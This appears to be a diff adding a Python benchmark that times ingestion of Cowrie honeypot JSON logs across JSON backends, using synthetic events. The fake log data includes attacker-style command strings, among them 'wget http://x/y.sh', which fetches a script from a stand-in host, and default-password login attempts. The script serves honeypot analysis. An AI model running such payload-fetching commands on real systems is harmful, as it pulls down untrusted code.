@@ -0,0 +1,121 @@
+# bench_extract.py
+"""
+Benchmark Cowrie log ingestion throughput (lines/sec) for each JSON backend.
+
+- Writes a synthetic cowrie.json (or uses --log) with a realistic event mix,
+  where most lines are events the extractor throws away
+- Times the old path (json.loads every line, then filter) and the
+  EventParser path (raw-bytes prefilter + batched decode) per backend
+"""
+import argparse
+import importlib
+import json
+import os
+import random
+import tempfile
+import time
+
+from extract_data_real import EVENTS, FIELDS, JSON_BACKENDS, EventParser, read_batches
+
+# rough production mix: command/kex noise dominates
+EVENT_MIX = [
+    ("cowrie.command.input", 40), ("cowrie.client.kex", 20), ("cowrie.client.version", 10),
+    ("cowrie.session.connect", 8), ("cowrie.login.failed", 12), ("cowrie.login.success", 2),
+    ("cowrie.session.closed", 8),
+]
+
+
+def write_synthetic_log(path, n_lines, seed=42):
+    rng = random.Random(seed)
+    names = [e for e, _ in EVENT_MIX]
+    weights = [w for _, w in EVENT_MIX]
+    with open(path, "w") as f:
+        for i, eventid in enumerate(rng.choices(names, weights, k=n_lines)):
+            log = {
+                "eventid": eventid,
+                "timestamp": f"2025-01-01T00:{(i // 60) % 60:02d}:{i % 60:02d}.000000Z",
+                "src_ip": f"171.79.{rng.randint(0, 255)}.{rng.randint(1, 254)}",
+                "session": f"{rng.getrandbits(48):012x}",
+                "sensor": "cowrie-01",
+                "message": f"{eventid} event {i}",
+            }
+            if eventid.startswith("cowrie.login"):
+                log.update(username="root", password=rng.choice(["1234", "admin", "toor"]))
+            elif eventid == "cowrie.command.input":
+                log["input"] = rng.choice(["uname -a", "cat /proc/cpuinfo", "wget http://x/y.sh"])
+            elif eventid == "cowrie.session.closed":
+                log["duration"] = round(rng.uniform(0.1, 300), 3)
+            f.write(json.dumps(log) + "\n")
+
+
+def bench_naive(path, loads):
+    # the pre-streaming extractor: decode every line, then filter in Python
+    kept = 0
+    with open(path, "rb") as f:
+        for line in f:
+            try:
+                log = loads(line)
+            except ValueError:
+                continue
+            if log.get("eventid") in EVENTS:
+                _ = {k: log.get(k) for k in FIELDS}
+                kept += 1
+    return kept
+
+
+def bench_parser(path, backend, batch_size):
+    parser = EventParser(backend=backend)
+    kept = 0
+    with open(path, "rb") as f:
+        for cols, _ in read_batches(f, parser, batch_size):
+            kept += len(cols[parser.fields[0]])
+    return kept
+
+
+def available_backends():
+    out = []
+    for name in JSON_BACKENDS:
+        if name == "json":
+            out.append((name, json.loads))
+            continue
+        try:
+            out.append((name, importlib.import_module(name).loads))
+        except ImportError:
+            print(f"(skipping {name}: not installed)")
+    return out
+
+
+def main():
+    p = argparse.ArgumentParser(description=__doc__.strip().splitlines()[0])
+    p.add_argument("--log", help="existing cowrie.json to benchmark (default: synthetic)")
+    p.add_argument("--lines", type=int, default=500000)
+    p.add_argument("--batch-size", type=int, default=50000)
+    args = p.parse_args()
+
+    tmp = None
+    path = args.log
+    if not path:
+        tmp = tempfile.NamedTemporaryFile(suffix=".json", delete=False)
+        tmp.close()
+        path = tmp.name
+        print(f"Writing {args.lines} synthetic events to {path}")
+        write_synthetic_log(path, args.lines)
+    with open(path, "rb") as f:
+        n_lines = sum(1 for _ in f)
+
+    try:
+        print(f"\n{'backend':<8} {'path':<10} {'lines/sec':>12} {'kept':>10}")
+        for name, loads in available_backends():
+            for label, fn in (("naive", lambda loads=loads: bench_naive(path, loads)),
+                              ("prefilter", lambda name=name: bench_parser(path, name, args.batch_size))):
+                t0 = time.perf_counter()
+                kept = fn()
+                dt = time.perf_counter() - t0
+                print(f"{name:<8} {label:<10} {n_lines / dt:>12,.0f} {kept:>10}")
+    finally:
+        if tmp is not None:
+            os.remove(path)
+
+
+if __name__ == "__main__":
+    main()